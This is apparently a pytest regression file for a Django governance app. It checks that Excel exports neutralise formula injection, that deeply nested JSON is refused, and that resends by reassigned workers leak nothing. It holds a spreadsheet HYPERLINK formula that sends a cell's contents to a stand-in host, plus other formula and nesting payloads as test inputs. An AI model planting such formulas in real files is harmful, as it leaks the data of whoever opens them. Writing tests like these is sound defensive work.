"""Findings of the second outside probe: formula injection in the Excel exports (7), deeply
nested JSON (11), and resends by a worker moved out of the jurisdiction (9)."""

from __future__ import annotations

import ast
import uuid
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from campaigns.services.campaigns import TaskInput, task_complete
from campaigns.services.instructions import InstructionInput, instruction_send
from demo.seed import DEMO_PASSWORD
from governance.platform import xlsx
from grids.models import Area
from personnel.models import PostKind
from residents import selectors as access
from supervision.services.inspections import InspectionInput, inspection_record
from supervision.services.inspections import ItemInput as InspectionItem
from supervision.services.meetings import ItemInput as MeetingItem
from supervision.services.meetings import MeetingInput, meeting_record
from tests.factories import campaign_body, launched_campaign, register, report, roster_person
from tests.samples import QUARTER, YEAR, case_payload, id_number

# --- 7. Formula injection in every Excel export ------------------------------------------------

FORMULA = '=HYPERLINK("http://probe.example/?d="&A1,"点击查看")'


def cells_of(response) -> list:
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_opens_as_text(response, text: str = FORMULA) -> None:
    """The text is in the workbook as a text cell with Excel's quote prefix (it shows as
    typed and stays text when edited), and no cell of the workbook is a formula."""
    cells = cells_of(response)
    found = [cell for cell in cells if cell.value == text]
    assert found, f"{text!r} is not in the export"
    assert [(cell.data_type, cell.quotePrefix) for cell in found] == [("s", True)] * len(found)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def rename(area: Area, name: str = FORMULA) -> None:
    Area.objects.filter(pk=area.pk).update(name=name)


@pytest.mark.parametrize(
    "title", [FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "#N/A"]
)
def test_a_case_title_that_reads_as_a_formula_opens_as_text_in_the_case_export(client, demo, title):
    report(demo, title=title)
    client.force_login(demo.user("township1"))
    # XML reads a carriage return as a line feed: Excel shows "\r=1+1" as "\n=1+1".
    assert_opens_as_text(client.get(reverse("case_export")), title.replace("\r", "\n"))


def test_a_residents_address_opens_as_text_in_the_register_export(client, demo):
    register(demo, id_number=id_number(951), address=FORMULA)
    client.force_login(demo.user("township1"))
    assert_opens_as_text(client.post(reverse("resident_export"), {"reason": "季度排查核对"}))


def test_a_reveals_purpose_opens_as_text_in_the_access_log_export(client, demo):
    resident = register(demo, id_number=id_number(952))
    access.resident_reveal(resident=resident, actor=demo.user("township1"), reason=FORMULA)
    client.force_login(demo.user("county"))
    assert_opens_as_text(client.get(reverse("access_log_export")))


def test_a_tasks_result_opens_as_text_in_the_campaign_export(client, demo, roster):
    campaign = launched_campaign(demo)
    task = campaign.tasks.first()
    task_complete(task=task, actor=demo.user("township1"), data=TaskInput(uuid.uuid4(), FORMULA))
    client.force_login(demo.user("township1"))
    assert_opens_as_text(client.get(reverse("campaign_export", args=[campaign.pk])))


def test_an_area_name_opens_as_text_in_the_audit_log_export(client, demo):
    rename(demo.grid1)
    report(demo)  # its audit entry is of grid 1
    client.force_login(demo.user("county"))
    assert_opens_as_text(client.get(reverse("audit_log_export"), {"object_type": "case"}))


def test_a_persons_name_and_employer_open_as_text_in_the_roster_export(client, demo):
    staff = roster_person(demo, name=FORMULA, area=demo.village1, serial=953)
    type(staff).objects.filter(pk=staff.pk).update(employer="@SUM(1,1)")
    client.force_login(demo.user("township1"))
    response = client.get(reverse("staff_export"))
    assert_opens_as_text(response)
    assert_opens_as_text(response, "@SUM(1,1)")


def test_an_area_name_opens_as_text_in_the_coverage_export(client, demo):
    rename(demo.grid1)
    client.force_login(demo.user("township1"))
    response = client.get(reverse("staff_coverage_export"), {"post": PostKind.GRID_WORKER})
    assert_opens_as_text(response)


def test_a_village_name_opens_as_text_in_the_pay_sheet(client, demo, quarter_evaluated):
    rename(demo.village1)
    client.force_login(demo.user("township1"))
    query = {"township": demo.township1.pk, "year": YEAR, "quarter": QUARTER}
    assert_opens_as_text(client.get(reverse("pay_sheet_export"), query))


def test_a_township_name_opens_as_text_in_the_bulletin_workbook(client, demo, snapshot):
    rename(demo.township1)
    client.force_login(demo.user("county"))
    assert_opens_as_text(client.get(reverse("ranking_bulletin_xlsx", args=[snapshot.pk])))


def test_a_cell_set_by_address_or_by_position_keeps_formula_text_as_text():
    workbook = xlsx.Workbook()  # not streaming: cells may be set where they are
    sheet = workbook.active
    sheet["A1"] = FORMULA
    sheet.cell(row=1, column=2, value="-1+1")
    sheet.append(["+1", 42, "plain"])
    read = load_workbook(BytesIO(xlsx.workbook_bytes(workbook))).active
    assert [(c.value, c.data_type, c.quotePrefix) for c in read[1][:2]] == [
        (FORMULA, "s", True), ("-1+1", "s", True)
    ]  # fmt: skip
    assert [(c.value, c.quotePrefix) for c in read[2]] == [
        ("+1", True), (42, False), ("plain", False)
    ]  # fmt: skip


# Reading an uploaded workbook (grids.importing) is not writing one.
READING_ONLY = {"openpyxl": {"load_workbook"}}
# Cell formatting and column letters put no value in a cell.
HARMLESS_MODULES = ("openpyxl.styles", "openpyxl.utils")


def project_modules() -> list[Path]:
    root = Path(settings.BASE_DIR)
    skipped = {".venv", "node_modules", "tests", "migrations", ".git"}
    return [
        path
        for path in root.rglob("*.py")
        if not skipped & set(path.relative_to(root).parts)
        and path.relative_to(root).as_posix() != "governance/platform/xlsx.py"
    ]


def imported_modules(tree: ast.Module) -> set[str]:
    names = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names |= {node.module} | {f"{node.module}.{alias.name}" for alias in node.names}
    return names


def openpyxl_bypasses(path: Path) -> list[str]:
    """What a module takes from openpyxl that could write a cell but through
    governance.platform.xlsx."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names if alias.name.startswith("openpyxl")]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            allowed = READING_ONLY.get(node.module, set())
            if not node.module.startswith(HARMLESS_MODULES):
                found += [f"{node.module}.{a.name}" for a in node.names if a.name not in allowed]
    modules = imported_modules(tree)
    if any(name.startswith(("openpyxl", "governance.platform.xlsx")) for name in modules):
        # A cell's value is set by append(), cell() or sheet[…] = …, which all escape it.
        for node in ast.walk(tree):
            targets = node.targets if isinstance(node, ast.Assign) else []
            targets += [node.target] if isinstance(node, ast.AugAssign) else []
            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in targets):
                found.append(f"a cell's value set by hand on line {node.lineno}")
    return found


def test_every_workbook_is_written_through_the_platforms_one_door():
    """Every writer takes its Workbook from governance.platform.xlsx, whose sheets write text that
    reads as a formula as text; none builds cells or sets their values with openpyxl."""
    modules = project_modules()
    assert any(path.name == "exporting.py" for path in modules)  # the walk finds the writers
    offenders = {
        path.relative_to(settings.BASE_DIR).as_posix(): found
        for path in modules
        if (found := openpyxl_bypasses(path))
    }
    assert offenders == {}


# --- 11. Deeply nested JSON -------------------------------------------------------------------

DEEP = "[" * 1000 + "]" * 1000


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.fixture
def api():
    """A client that answers a server error with its 500 page, as a real server does."""
    return Client(raise_request_exception=False, HTTP_ACCEPT_LANGUAGE="zh-hans")


def too_deep(response) -> str:
    assert response.status_code == 400, response.status_code
    assert response["Content-Type"] == "application/json"
    return response.json()["detail"]


@pytest.mark.parametrize(
    ("url", "username"),
    [
        ("/api/v1/cases/", "grid1"),
        ("/api/v1/residents/lookup/", "township1"),
        ("/api/v1/auth/token/", None),  # anonymous
    ],
)
def test_a_body_of_a_thousand_nested_arrays_is_a_400_in_json(api, demo, url, username):
    if username:
        api.force_login(demo.user(username))
    message = too_deep(api.post(url, DEEP, content_type="application/json"))
    with translation.override("zh-hans"):
        assert message == translation.gettext(
            "The JSON body is nested too deeply: at most %(limit)s levels of arrays and objects."
        ) % {"limit": 32}
    assert "嵌套" in message  # said in Chinese


def test_json_nested_past_the_limit_is_refused_and_at_the_limit_is_read(api, demo):
    api.force_login(demo.user("township1"))
    url = "/api/v1/residents/lookup/"
    too_deep(api.post(url, nested(33), content_type="application/json"))
    objects = '{"a":' * 32 + "1" + "}" * 32
    too_deep(api.post(url, '{"id_number": ' + objects + "}", content_type="application/json"))
    at_limit = api.post(url, nested(32), content_type="application/json")
    assert at_limit.status_code == 400 and "id_number" in at_limit.json()  # read, then refused
    brackets_in_text = {"id_number": "[" * 100 + "{" * 100}
    read = api.post(url, brackets_in_text, content_type="application/json")
    assert read.status_code == 404  # looked up (no such person), not refused as too deep


def test_ordinary_json_bodies_still_work(api, demo):
    token = api.post(
        "/api/v1/auth/token/",
        {"username": "grid1", "password": DEMO_PASSWORD},
        content_type="application/json",
    )
    assert token.status_code == 200 and token.json()["token"]
    api.force_login(demo.user("grid1"))
    created = api.post("/api/v1/cases/", case_payload(demo), content_type="application/json")
    assert created.status_code == 201, created.json()


def test_no_view_parses_json_but_through_the_depth_limited_parser():
    """The API's default parser limits the depth, and no view sets DRF's own JSON parser
    instead. (No view reads a request body with json.loads: none parses JSON itself.)"""
    assert settings.REST_FRAMEWORK["DEFAULT_PARSER_CLASSES"][0] == (
        "governance.platform.api.DepthLimitedJSONParser"
    )
    offenders = [
        path.relative_to(settings.BASE_DIR).as_posix()
        for path in project_modules()
        if "rest_framework.parsers.JSONParser"
        in imported_modules(ast.parse(path.read_text(encoding="utf-8")))
        and path.relative_to(settings.BASE_DIR).as_posix() != "governance/platform/api.py"
    ]
    assert offenders == []


# --- 9. A resend answers only to a caller who may still see what it made ----------------------

SECRET = "一号镇的旧事"


def move(user, area: Area) -> None:
    user.area = area
    user.save(update_fields=["area"])


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def refused_as_in_use(resent, theirs) -> None:
    """The resend is answered exactly as someone else's use of the same UUID, and says
    nothing of what the UUID made."""
    assert (resent.status_code, resent.json()) == (theirs.status_code, theirs.json())
    assert resent.status_code == 400 and list(resent.json()) == ["client_uuid"]
    assert SECRET not in resent.content.decode()


def test_a_worker_moved_to_another_township_cannot_read_an_old_case_by_resending_it(demo):
    grid_worker = demo.user("grid1")
    api = logged_in(grid_worker)
    body = case_payload(demo, title=SECRET)
    first = api.post("/api/v1/cases/", body, content_type="application/json")
    assert first.status_code == 201
    move(grid_worker, demo.grid2)
    assert api.get(f"/api/v1/cases/{first.json()['id']}/").status_code == 404
    body["grid"] = demo.grid2.pk  # a grid of the new township: the form is valid
    resent = api.post("/api/v1/cases/", body, content_type="application/json")
    theirs = logged_in(demo.user("township2")).post(
        "/api/v1/cases/", body, content_type="application/json"
    )
    refused_as_in_use(resent, theirs)


def test_a_worker_moved_away_cannot_read_an_old_visit_by_resending_it(demo):
    grid_worker = demo.user("grid1")
    ours = register(demo, id_number=id_number(961))
    theirs = register(demo, id_number=id_number(962), grid=demo.grid2, actor="county")
    api = logged_in(grid_worker)
    body = {"client_uuid": str(uuid.uuid4()), "met": True, "situation": f"在家，谈及{SECRET}"}
    first = api.post(reverse("api_resident_visits", args=[ours.pk]), body, "application/json")
    assert first.status_code == 201
    move(grid_worker, demo.grid2)
    url = reverse("api_resident_visits", args=[theirs.pk])  # a person of the new grid
    resent = api.post(url, body, "application/json")
    refused_as_in_use(resent, logged_in(demo.user("township2")).post(url, body, "application/json"))


def test_a_centre_moved_to_another_township_cannot_read_an_old_campaign_by_resending_it(
    demo, roster
):
    centre = demo.user("township1")
    api = logged_in(centre)
    body = {**campaign_body(demo, title=SECRET), "client_uuid": str(uuid.uuid4())}
    assert api.post("/api/v1/campaigns/", body, "application/json").status_code == 201
    move(centre, demo.township2)
    body = {**body, "area": demo.township2.pk, "targets": []}  # valid in the new township
    resent = api.post("/api/v1/campaigns/", body, "application/json")
    theirs = logged_in(demo.user("township2")).post("/api/v1/campaigns/", body, "application/json")
    refused_as_in_use(resent, theirs)


def test_meetings_instructions_and_inspections_answer_a_resend_only_while_still_visible(
    demo, roster, other_county
):
    township1, centre = demo.user("township1"), demo.user("centre")
    meeting = MeetingInput(
        level="township_daily",
        area=demo.township1,
        held_on=timezone.localdate(),
        chair="王镇长",
        items=[MeetingItem(case=report(demo).case, judgement="attention", decision="watch")],
        client_uuid=uuid.uuid4(),
    )
    instruction = InstructionInput(
        title=SECRET,
        body="今夜有暴雨。",
        area=demo.township1,
        post_kinds=[PostKind.GRID_WORKER],
        member_types=[],
        client_uuid=uuid.uuid4(),
    )
    inspection = InspectionInput(
        area=demo.village1,
        inspected_on=timezone.localdate(),
        inspectors="督导组",
        score=Decimal(90),
        items=[InspectionItem(text="台账完整", passed=True)],
        client_uuid=uuid.uuid4(),
    )
    meeting_record(actor=township1, data=meeting)
    instruction_send(actor=township1, data=instruction)
    inspection_record(actor=centre, data=inspection)
    move(township1, demo.township2)
    move(centre, other_county)
    resends = {
        "meeting": lambda: meeting_record(actor=township1, data=meeting),
        "instruction": lambda: instruction_send(actor=township1, data=instruction),
        "inspection": lambda: inspection_record(actor=centre, data=inspection),
    }
    answered = {}
    for name, resend in resends.items():
        try:
            answered[name] = f"made {resend()!r}"
        except ValidationError as refused:
            answered[name] = list(refused.message_dict)
    assert answered == {name: ["client_uuid"] for name in resends}


def test_a_task_resent_after_the_move_answers_as_a_task_out_of_reach(demo, roster):
    campaign = launched_campaign(demo)
    task = campaign.tasks.filter(area=demo.grid1, staff__user__isnull=False).first()
    grid_worker = task.staff.user
    api = logged_in(grid_worker)
    url = f"/api/v1/campaigns/{campaign.pk}/tasks/{task.pk}/complete/"
    body = {"client_uuid": str(uuid.uuid4()), "result": SECRET}
    assert api.post(url, body, "application/json").status_code == 201
    move(grid_worker, demo.grid2)
    resent = api.post(url, body, "application/json")
    assert resent.status_code == 404 and SECRET not in resent.content.decode()
